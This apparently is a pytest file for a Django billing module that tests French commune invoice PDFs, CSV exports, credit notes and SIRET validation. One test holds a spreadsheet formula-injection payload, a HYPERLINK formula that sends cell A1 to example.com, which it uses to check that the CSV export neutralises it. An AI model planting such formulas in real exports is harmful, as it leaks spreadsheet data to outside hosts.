from __future__ import annotations

import csv
import datetime
import io
import unicodedata

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfReader

from tenants.billing.models import CommuneBillingProfile
from tenants.billing.services import invoice_cancel, invoice_create
from tenants.billing.validators import validate_siret
from tenants.models import Commune
from tests.billing.conftest import BORDEAUX_SIRET, SEPTEMBER, line

pytestmark = pytest.mark.django_db


def _pdf_text(pdf: bytes) -> str:
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    # NFKC turns the ligatures WeasyPrint may emit ("ﬁ") back into letters.
    return " ".join(unicodedata.normalize("NFKC", text).split())


def test_the_invoice_pdf_holds_the_commune_the_lines_and_the_totals(
    bordeaux_commune: Commune, bordeaux_profile: CommuneBillingProfile
) -> None:
    from tenants.billing.exports import invoice_pdf

    invoice = invoice_create(
        commune=bordeaux_commune,
        lines=[
            line(),
            line(label="Hébergement des classes", quantity="40", price="12.35", nature="6156"),
        ],
        **SEPTEMBER,
    )

    pdf = invoice_pdf(invoice=invoice, profile=bordeaux_profile)

    assert pdf.startswith(b"%PDF-")
    text = _pdf_text(pdf)
    for expected in [
        "Facture n° 2026-000001",
        "Groupement de test",
        "Commune coordinatrice : Bordeaux",
        "Commune de Bordeaux",
        f"SIRET : {BORDEAUX_SIRET}",
        "Code service Chorus Pro : DSI-ENT",
        "Formation des enseignants",
        "Hébergement des classes",
        "020 / 6184",
        "020 / 6156",
        "Total HT 1 844,00 €",
        "Total TVA 368,80 €",
        "Total TTC 2 212,80 €",
    ]:
        assert expected in text, expected


def test_the_csv_is_semicolon_separated_with_decimal_commas_and_a_bom(
    bordeaux_commune: Commune, bordeaux_profile: CommuneBillingProfile
) -> None:
    from tenants.billing.exports import invoices_csv

    invoice = invoice_create(commune=bordeaux_commune, lines=[line(quantity="2.5")], **SEPTEMBER)
    credit_note = invoice_cancel(
        invoice=invoice, issued_on=datetime.date(2026, 10, 3), reason="Erreur"
    )

    data = invoices_csv(
        invoices=[invoice, credit_note], profiles={bordeaux_commune.pk: bordeaux_profile}
    )

    assert data.startswith(b"\xef\xbb\xbf")
    rows = [row.split(";") for row in data.decode("utf-8-sig").splitlines()]
    assert rows[0][:3] == ["Numéro", "Nature", "Date d'émission"]
    assert rows[1] == [
        "2026-000001",
        "Facture",
        "02/10/2026",
        "Bordeaux",
        BORDEAUX_SIRET,
        "DSI-ENT",
        "",
        "1",
        "Formation des enseignants",
        "2,50",
        "450,00",
        "20,00",
        "1125,00",
        "225,00",
        "1350,00",
        "020",
        "6184",
        "",
    ]
    assert rows[2][:2] == ["2026-000002", "Avoir"]
    assert rows[2][6] == "2026-000001"
    assert rows[2][9:15] == ["-2,50", "450,00", "20,00", "-1125,00", "-225,00", "-1350,00"]


@pytest.mark.parametrize("siret", [BORDEAUX_SIRET, "73282932000074"])
def test_a_valid_siret_passes(siret: str) -> None:
    validate_siret(siret)


@pytest.mark.parametrize(
    "siret", ["21330063500018", "2133006350001", "213300635000170", "2133006350001A", ""]
)
def test_an_invalid_siret_is_refused(siret: str) -> None:
    with pytest.raises(ValidationError):
        validate_siret(siret)


def test_a_billing_profile_with_a_bad_siret_does_not_validate(bordeaux_commune: Commune) -> None:
    profile = CommuneBillingProfile(
        commune=bordeaux_commune, siret="21330063500018", billing_address="Bordeaux"
    )

    with pytest.raises(ValidationError) as caught:
        profile.full_clean()

    assert "siret" in caught.value.message_dict


def test_the_csv_neutralises_a_formula_in_a_label_and_keeps_negative_amounts(
    bordeaux_commune: Commune,
) -> None:
    from tenants.billing.exports import invoices_csv

    formula = '=HYPERLINK("https://example.com/?x="&A1;"Facture")'
    invoice = invoice_create(commune=bordeaux_commune, lines=[line(label=formula)], **SEPTEMBER)
    credit_note = invoice_cancel(
        invoice=invoice, issued_on=datetime.date(2026, 10, 3), reason="Erreur"
    )

    data = invoices_csv(invoices=[invoice, credit_note], profiles={})

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert [row[8] for row in rows[1:]] == [f"'{formula}", f"'{formula}"]
    # A credit note's amounts are plain negative numbers, read as numbers, not formulas.
    assert rows[2][9:15] == ["-3,00", "450,00", "20,00", "-1350,00", "-270,00", "-1620,00"]
